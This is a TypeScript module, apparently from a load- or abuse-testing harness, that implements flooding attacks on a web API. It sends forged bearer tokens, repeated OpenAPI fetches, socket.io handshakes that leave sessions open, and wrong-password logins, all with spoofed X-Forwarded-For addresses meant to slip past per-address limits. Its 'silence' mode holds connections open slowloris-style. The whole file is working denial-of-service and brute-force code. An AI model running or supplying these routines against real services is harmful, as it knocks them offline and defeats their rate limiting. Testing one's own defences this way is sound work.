import { type Attack, each, forgedToken, from, type Order, pause } from "./attack.ts";
import { Asker, close, head, open, openSocket, write } from "./wire.ts";

/** A request of client `i`, new each time. */
type Request = (order: Order, i: number, turn: number) => string;

const post = (url: string, path: string, address: string, body: unknown) => {
  const text = JSON.stringify(body);
  const type = { "Content-Type": "application/json", "Content-Length": text.length };
  return head(url, `POST ${path}`, { ...type, "X-Forwarded-For": address }) + text;
};

const REQUESTS: Record<string, Request> = {
  /** Made-up tokens, each client from an address of its own. */
  tokens: ({ url }, i) =>
    head(url, "GET /api/servers", {
      Authorization: `Bearer ${forgedToken()}`,
      "X-Forwarded-For": from.v4(i),
    }),
  /** The longest answer that a stranger gets. */
  descriptions: ({ url }, i) =>
    head(url, "GET /api/openapi.json", { "X-Forwarded-For": from.v4(i) }),
  /** Each leaves a session of socket.io behind; from ever new networks. */
  handshakes: ({ url }, i, turn) =>
    head(url, "GET /socket.io/?EIO=4&transport=polling", {
      "X-Forwarded-For": from.v6Many(i * 1000 + turn),
    }),
  /** Passwords, from one home with ever new addresses, and from many. */
  "logins-one-64": ({ url }, i, turn) =>
    post(url, "/api/auth/login", from.v6One(i * 1000 + turn), wrong(i, turn)),
  "logins-many-64": ({ url }, i, turn) =>
    post(url, "/api/auth/login", from.v6Many(i * 1000 + turn), wrong(i, turn)),
};

function wrong(i: number, turn: number) {
  return { username: `nobody${i}_${turn}`, password: "a guess" };
}

/** Asks as fast as it is answered. `way`: what. */
export const floods: Attack = async (order, off, begun) => {
  const { url, count, way = "tokens" } = order;
  const result: Record<string, number> = { answered: 0, cut: 0, slowest: 0 };
  if (way === "silence" || way === "heads") return await silence(order, off, begun);
  await each(count, begun, async (i, begun) => {
    const asker = new Asker(url);
    off.addEventListener("abort", () => asker.end());
    for (let turn = 0; !off.aborted; turn++) {
      const began = performance.now();
      const status = await asker.ask(REQUESTS[way](order, i, turn));
      begun();
      if (off.aborted) break;
      result.slowest = Math.max(result.slowest, performance.now() - began);
      result[status ? "answered" : "cut"]++;
      result[`status${status}`] = (result[`status${status}`] ?? 0) + 1;
      if (status === 0) await pause(50, off);
    }
    asker.end();
  });
  return result;
};

/** Opens connections and says nothing: no token on a socket, no end of a request's head. */
async function silence({ url, count, way }: Order, off: AbortSignal, begun: () => void) {
  const result = { opened: 0 };
  await each(count, begun, async (i, begun) => {
    while (!off.aborted) {
      let connection: Deno.Conn | undefined;
      try {
        if (way === "silence") {
          ({ connection } = await openSocket(url, { address: from.v4(i) }));
        } else {
          connection = await open(url);
          await write(connection, head(url, "GET /").trimEnd());
        }
        result.opened++;
        begun();
        const closed = connection;
        off.addEventListener("abort", () => close(closed));
        const buffer = new Uint8Array(1024);
        while (await connection.read(buffer).catch(() => null) !== null);
      } catch {
        // Refused: it comes again.
      }
      close(connection);
      await pause(200, off);
    }
  });
  return result;
}
